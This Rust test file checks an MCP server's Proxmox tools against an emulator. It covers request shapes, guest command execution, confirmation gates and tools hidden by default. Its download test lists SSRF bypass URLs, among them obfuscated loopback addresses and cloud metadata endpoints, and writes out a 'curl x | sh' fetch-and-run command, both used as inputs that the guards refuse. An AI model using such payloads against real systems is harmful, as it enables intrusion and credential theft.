//! The peer-surface tools through the built binary against the emulator: the request each
//! sends (method, path, parameters), the composite follow-ups, the download guard with no
//! request on refusal, the diagnoses' findings, and what default settings hide.

use crate::common;

use common::guests::{assert_request, call, fails, ok, pairs, start};
use common::{McpProcess, emulator, env_for, envelope, with_policy};
use serde_json::{Value, json};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rest_tools_send_the_expected_request() {
    let (emu, mut mcp) = start().await;
    let (_, req) = ok(
        &mut mcp,
        &emu,
        "pve_node_power",
        json!({"node": "pve02", "command": "reboot", "confirm": true}),
    )
    .await;
    assert_request(
        &req,
        "POST",
        "/nodes/pve02/status",
        &[],
        &[("command", "reboot")],
    );
    let (data, req) = ok(
        &mut mcp,
        &emu,
        "pve_create_console_ticket",
        json!({"node": "pve01", "guest_type": "qemu", "vmid": 101, "proxy": "vncproxy", "confirm": true}),
    )
    .await;
    assert_request(&req, "POST", "/nodes/pve01/qemu/101/vncproxy", &[], &[]);
    assert!(
        data["ticket"].as_str().unwrap().starts_with("PVEVNC:"),
        "the ticket is returned on purpose"
    );
    let (data, req) = ok(&mut mcp, &emu, "pve_get_ceph_status", json!({})).await;
    assert_request(&req, "GET", "/cluster/ceph/status", &[], &[]);
    assert_eq!(data["health"]["status"], "HEALTH_OK");
    let (data, req) = ok(
        &mut mcp,
        &emu,
        "pve_list_sdn_zones",
        json!({"type": "vlan"}),
    )
    .await;
    assert_request(&req, "GET", "/cluster/sdn/zones", &[("type", "vlan")], &[]);
    assert_eq!(data.as_array().unwrap().len(), 1);
    let (_, req) = ok(&mut mcp, &emu, "pve_list_sdn_vnets", json!({})).await;
    assert_request(&req, "GET", "/cluster/sdn/vnets", &[], &[]);
    let (data, req) = ok(
        &mut mcp,
        &emu,
        "pve_list_cloudinit_snippets",
        json!({"node": "pve01", "storage": "local"}),
    )
    .await;
    assert_request(
        &req,
        "GET",
        "/nodes/pve01/storage/local/content",
        &[("content", "snippets")],
        &[],
    );
    assert_eq!(data[0]["volid"], "local:snippets/user-data.yaml");
    assert_eq!(data.as_array().unwrap().len(), 1);
    let (_, req) = ok(
        &mut mcp,
        &emu,
        "pve_qemu_agent_ping",
        json!({"node": "pve01", "vmid": 101}),
    )
    .await;
    assert_request(&req, "POST", "/nodes/pve01/qemu/101/agent/ping", &[], &[]);

    // Guest files: written, then read back.
    let (_, req) = ok(&mut mcp, &emu, "pve_qemu_agent_file_write", json!({"node": "pve01", "vmid": 101, "file": "/etc/motd", "content": "hello\n", "confirm": true})).await;
    assert_request(
        &req,
        "POST",
        "/nodes/pve01/qemu/101/agent/file-write",
        &[],
        &[("file", "/etc/motd"), ("content", "hello\n")],
    );
    let (data, req) = ok(
        &mut mcp,
        &emu,
        "pve_qemu_agent_file_read",
        json!({"node": "pve01", "vmid": 101, "file": "/etc/motd", "confirm": true}),
    )
    .await;
    assert_request(
        &req,
        "GET",
        "/nodes/pve01/qemu/101/agent/file-read",
        &[("file", "/etc/motd")],
        &[],
    );
    assert_eq!(data["content"], "hello\n");
    let (_, requests) = fails(
        &mut mcp,
        &emu,
        "pve_qemu_agent_file_read",
        json!({"node": "pve01", "vmid": 101, "file": "relative/path"}),
        "TOOL_INPUT_REJECTED",
    )
    .await;
    assert!(requests.is_empty());

    // PCI mappings: create, list, get, update, delete — each seen by the next read.
    let map = "node=pve01,path=0000:01:00.0,id=10de:1eb8";
    let (_, req) = ok(
        &mut mcp,
        &emu,
        "pve_create_pci_mapping",
        json!({"id": "gpu0", "map": [map], "description": "T4", "confirm": true}),
    )
    .await;
    assert_request(
        &req,
        "POST",
        "/cluster/mapping/pci",
        &[],
        &[("id", "gpu0"), ("map", map), ("description", "T4")],
    );
    let (data, req) = ok(&mut mcp, &emu, "pve_list_pci_mappings", json!({})).await;
    assert_request(&req, "GET", "/cluster/mapping/pci", &[], &[]);
    assert_eq!(data[0]["id"], "gpu0");
    let (data, _) = ok(&mut mcp, &emu, "pve_get_pci_mapping", json!({"id": "gpu0"})).await;
    let digest = data["digest"].as_str().unwrap().to_owned();
    let (_, req) = ok(
        &mut mcp,
        &emu,
        "pve_update_pci_mapping",
        json!({"id": "gpu0", "description": "Tesla T4", "digest": digest, "confirm": true}),
    )
    .await;
    assert_request(
        &req,
        "PUT",
        "/cluster/mapping/pci/gpu0",
        &[],
        &[("description", "Tesla T4"), ("digest", digest.as_str())],
    );
    let (data, _) = ok(&mut mcp, &emu, "pve_get_pci_mapping", json!({"id": "gpu0"})).await;
    assert_eq!(data["description"], "Tesla T4");
    let (_, req) = ok(
        &mut mcp,
        &emu,
        "pve_delete_pci_mapping",
        json!({"id": "gpu0", "confirm": true}),
    )
    .await;
    assert_request(&req, "DELETE", "/cluster/mapping/pci/gpu0", &[], &[]);
    let (data, _) = ok(&mut mcp, &emu, "pve_list_pci_mappings", json!({})).await;
    assert_eq!(data, json!([]));
    assert!(mcp.shutdown().await.success());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guest_exec_returns_output_and_exit_code() {
    let (emu, mut mcp) = start().await;
    let (env, requests) = call(
        &mut mcp,
        &emu,
        "pve_exec_qemu_guest_command",
        json!({"node": "pve01", "vmid": 101, "confirm": true,
        "command": ["sh", "-c", "echo out; echo err >&2; exit 3"]}),
    )
    .await;
    assert_eq!(env["ok"], true, "{env}");
    assert_request(
        &requests[0],
        "POST",
        "/nodes/pve01/qemu/101/agent/exec",
        &[],
        &[
            ("command", "sh"),
            ("command", "-c"),
            ("command", "echo out; echo err >&2; exit 3"),
        ],
    );
    let pid = env["data"]["pid"].as_i64().unwrap().to_string();
    assert_request(
        &requests[1],
        "GET",
        "/nodes/pve01/qemu/101/agent/exec-status",
        &[("pid", pid.as_str())],
        &[],
    );
    let data = &env["data"];
    assert_eq!(
        (
            data["stdout"].clone(),
            data["stderr"].clone(),
            data["exitcode"].clone()
        ),
        (json!("out\n"), json!("err\n"), json!(3))
    );
    assert_eq!(data["exited"], true);
    assert_eq!(data["stdout_truncated"], false);
    // Large output is capped and flagged.
    let (env, _) = call(
        &mut mcp,
        &emu,
        "pve_exec_qemu_guest_command",
        json!({"node": "pve01", "vmid": 101, "confirm": true, "command": ["yes"]}),
    )
    .await;
    assert_eq!(env["data"]["stdout_truncated"], true);
    assert!(env["data"]["stdout"].as_str().unwrap().len() <= 65_536);
    // A program still running when the timeout passes: polled, then reported as running.
    let (env, requests) = call(&mut mcp, &emu, "pve_exec_qemu_guest_command", json!({"node": "pve01", "vmid": 101, "confirm": true, "command": ["sleep", "30"], "timeout": 1})).await;
    assert_eq!(env["data"]["exited"], false, "{env}");
    assert!(requests.len() >= 3, "polled: {}", requests.len());
    // Without confirm nothing is sent.
    let (_, requests) = fails(
        &mut mcp,
        &emu,
        "pve_exec_qemu_guest_command",
        json!({"node": "pve01", "vmid": 101, "command": ["id"]}),
        "CONFIRMATION_REQUIRED",
    )
    .await;
    assert!(requests.is_empty());
    assert!(mcp.shutdown().await.success());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn download_is_guarded_and_passes_checksums() {
    let (emu, mut mcp) = start().await;
    let sum = "a".repeat(64);
    let (env, requests) = call(
        &mut mcp,
        &emu,
        "pve_download_to_storage",
        json!({"node": "pve01", "storage": "local", "confirm": true,
        "url": "https://0x5d.0xb8.0xd8.0x22/debian.iso", "filename": "debian.iso", "content": "iso",
        "checksum": sum, "checksum-algorithm": "sha256"}),
    )
    .await;
    assert_eq!(env["ok"], true, "{env}");
    assert_eq!(requests.len(), 1);
    assert_request(
        &requests[0],
        "POST",
        "/nodes/pve01/storage/local/download-url",
        &[],
        &[
            ("url", "https://93.184.216.34/debian.iso"),
            ("filename", "debian.iso"),
            ("content", "iso"),
            ("checksum", sum.as_str()),
            ("checksum-algorithm", "sha256"),
        ],
    );
    assert!(env["data"].as_str().unwrap().starts_with("UPID:pve01:"));
    let (data, _) = ok(
        &mut mcp,
        &emu,
        "pve_list_storage_content",
        json!({"node": "pve01", "storage": "local", "content": "iso"}),
    )
    .await;
    assert!(
        data.as_array()
            .unwrap()
            .iter()
            .any(|v| v["volid"] == "local:iso/debian.iso")
    );
    for url in [
        "http://127.1/x.iso",
        "http://2130706433/x.iso",
        "http://[::ffff:127.0.0.1]/x.iso",
        "http://169.254.169.254/x",
        "http://localhost/x.iso",
        "http://good@10.0.0.1/x.iso",
        "http://metadata.google.internal/x",
    ] {
        let (error, requests) = fails(
            &mut mcp,
            &emu,
            "pve_download_to_storage",
            json!({"node": "pve01", "storage": "local", "confirm": true,
            "url": url, "filename": "x.iso", "content": "iso"}),
            "TOOL_INPUT_REJECTED",
        )
        .await;
        assert!(requests.is_empty(), "{url}");
        assert!(
            error["message"].as_str().unwrap().contains("refused"),
            "{url}: {error}"
        );
    }
    // The seed scan's chain (download → cloud-init dump → execution): without approval the
    // sinks send nothing, while the read in the middle stays a plain read.
    let (_, requests) = fails(
        &mut mcp,
        &emu,
        "pve_download_to_storage",
        json!({"node": "pve01", "storage": "local",
        "url": "https://93.184.216.34/evil.iso", "filename": "evil.iso", "content": "iso"}),
        "CONFIRMATION_REQUIRED",
    )
    .await;
    assert!(requests.is_empty());
    let (env, _) = call(
        &mut mcp,
        &emu,
        "pve_get_qemu_cloudinit_dump",
        json!({"node": "pve01", "vmid": 101, "type": "user"}),
    )
    .await;
    assert_eq!(env["ok"], true, "{env}");
    let (_, requests) = fails(
        &mut mcp,
        &emu,
        "pve_exec_qemu_guest_command",
        json!({"node": "pve01", "vmid": 101,
        "command": ["sh", "-c", "curl x | sh"]}),
        "CONFIRMATION_REQUIRED",
    )
    .await;
    assert!(requests.is_empty());
    assert!(mcp.shutdown().await.success());

    // The operator's allow-list lets one private address through.
    let env_vars = with_policy(
        env_for(&emu),
        &[
            ("PVE_ACCESS_TIER", "full"),
            ("PVE_MODULE_MODE", "advanced"),
            ("PVE_DOWNLOAD_ALLOW", "10.0.0.0/8"),
        ],
    );
    let mut mcp = McpProcess::spawn(&["run"], &env_vars);
    mcp.initialize().await;
    let (env, requests) = call(
        &mut mcp,
        &emu,
        "pve_download_to_storage",
        json!({"node": "pve01", "storage": "local", "confirm": true,
        "url": "http://10.0.0.5/mirror.iso", "filename": "mirror.iso", "content": "iso"}),
    )
    .await;
    assert_eq!(env["ok"], true, "{env}");
    assert_eq!(
        pairs(&requests[0].form)[0],
        ("url", "http://10.0.0.5/mirror.iso")
    );
    let (_, requests) = fails(
        &mut mcp,
        &emu,
        "pve_download_to_storage",
        json!({"node": "pve01", "storage": "local", "confirm": true,
        "url": "http://127.0.0.1/x.iso", "filename": "x.iso", "content": "iso"}),
        "TOOL_INPUT_REJECTED",
    )
    .await;
    assert!(requests.is_empty());
    assert!(mcp.shutdown().await.success());
}

fn severities(findings: &Value) -> Vec<String> {
    findings
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["severity"].as_str().unwrap().to_owned())
        .collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn diagnoses_report_the_agent_state() {
    let (emu, mut mcp) = start().await;
    let (env, requests) = call(
        &mut mcp,
        &emu,
        "pve_diagnose_qemu_guest_agent",
        json!({"node": "pve01", "vmid": 101}),
    )
    .await;
    assert_eq!(env["data"]["healthy"], true, "{env}");
    let paths: Vec<&str> = requests.iter().map(|r| r.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "/nodes/pve01/qemu/101/config",
            "/nodes/pve01/qemu/101/status/current",
            "/nodes/pve01/qemu/101/agent/ping",
            "/nodes/pve01/qemu/101/agent/info"
        ]
    );
    assert_eq!(env["data"]["agent"]["version"], "9.1.0");
    let (env, _) = call(
        &mut mcp,
        &emu,
        "pve_diagnose_qemu_boot",
        json!({"node": "pve01", "vmid": 101}),
    )
    .await;
    assert_eq!(env["data"]["boot_order"], json!(["scsi0", "net0"]));
    assert_eq!(severities(&env["data"]["findings"]), ["ok"], "{env}");

    ok(&mut mcp, &emu, "pve_qemu_update_config", json!({"node": "pve01", "vmid": 101, "agent": "0", "boot": "order=scsi5;net0", "confirm": true})).await;
    let (env, requests) = call(
        &mut mcp,
        &emu,
        "pve_diagnose_qemu_guest_agent",
        json!({"node": "pve01", "vmid": 101}),
    )
    .await;
    assert_eq!(env["data"]["healthy"], false);
    assert_eq!(requests.len(), 2, "no ping when the agent is disabled");
    assert!(
        env["data"]["findings"][0]["advice"]
            .as_str()
            .unwrap()
            .contains("agent=1")
    );
    let (env, requests) = call(
        &mut mcp,
        &emu,
        "pve_diagnose_qemu_boot",
        json!({"node": "pve01", "vmid": 101}),
    )
    .await;
    assert!(requests.iter().all(|r| r.method == "GET"), "reads only");
    let text = env["data"]["findings"].to_string();
    assert!(text.contains("scsi5"), "{text}");
    assert!(text.contains("disabled"), "{text}");
    assert!(mcp.shutdown().await.success());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn inventory_and_capabilities_are_live() {
    let (emu, mut mcp) = start().await;
    let (env, requests) = call(&mut mcp, &emu, "pve_inventory_overview", json!({})).await;
    let paths: Vec<&str> = requests.iter().map(|r| r.path.as_str()).collect();
    assert_eq!(paths, ["/cluster/resources", "/version", "/cluster/status"]);
    let data = &env["data"];
    assert_eq!(data["version"]["version"], "9.1.2");
    assert_eq!(data["cluster"]["quorate"], true);
    assert!(
        data["counts"]["qemu"]["running"].as_u64().unwrap() >= 1,
        "{data}"
    );
    assert!(data["per_node"]["pve01"].is_object());

    let (env, requests) = call(&mut mcp, &emu, "pve_capabilities", json!({})).await;
    let paths: Vec<&str> = requests.iter().map(|r| r.path.as_str()).collect();
    assert_eq!(paths, ["/version", "/access/permissions"]);
    let data = &env["data"];
    assert_eq!(data["ssh"]["configured"], false);
    assert_eq!(data["proxmox"]["version"], "9.1.2");
    assert!(data["proxmox"]["permissions"].is_object());
    assert!(
        data["tools"]["by_category"]["qemu"]
            .as_array()
            .unwrap()
            .iter()
            .any(|t| t == "pve_exec_qemu_guest_command")
    );
    assert!(data["proxmox"]["tools_not_permitted"].is_array());
    assert!(mcp.shutdown().await.success());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn default_settings_list_no_execution_write_or_download_tool() {
    let emu = emulator().await;
    let mut mcp = McpProcess::spawn(&["run"], &env_for(&emu));
    mcp.initialize().await;
    let names: Vec<String> = mcp
        .list_tools()
        .await
        .iter()
        .map(|t| t["name"].as_str().unwrap().to_owned())
        .collect();
    for hidden in [
        "pve_exec_qemu_guest_command",
        "pve_qemu_agent_file_write",
        "pve_qemu_agent_file_read",
        "pve_download_to_storage",
        "pve_node_power",
        "pve_create_console_ticket",
        "pve_create_pci_mapping",
    ] {
        assert!(
            !names.contains(&hidden.to_owned()),
            "{hidden} listed by default"
        );
    }
    for shown in [
        "pve_qemu_agent_ping",
        "pve_diagnose_qemu_guest_agent",
        "pve_diagnose_qemu_boot",
        "pve_inventory_overview",
        "pve_capabilities",
        "pve_list_pci_mappings",
    ] {
        assert!(
            names.contains(&shown.to_owned()),
            "{shown} missing by default"
        );
    }
    let env = envelope(&mcp.call("pve_capabilities", json!({})).await);
    assert_eq!(env["data"]["settings"]["tier"], "read-only");
    assert!(mcp.shutdown().await.success());
}
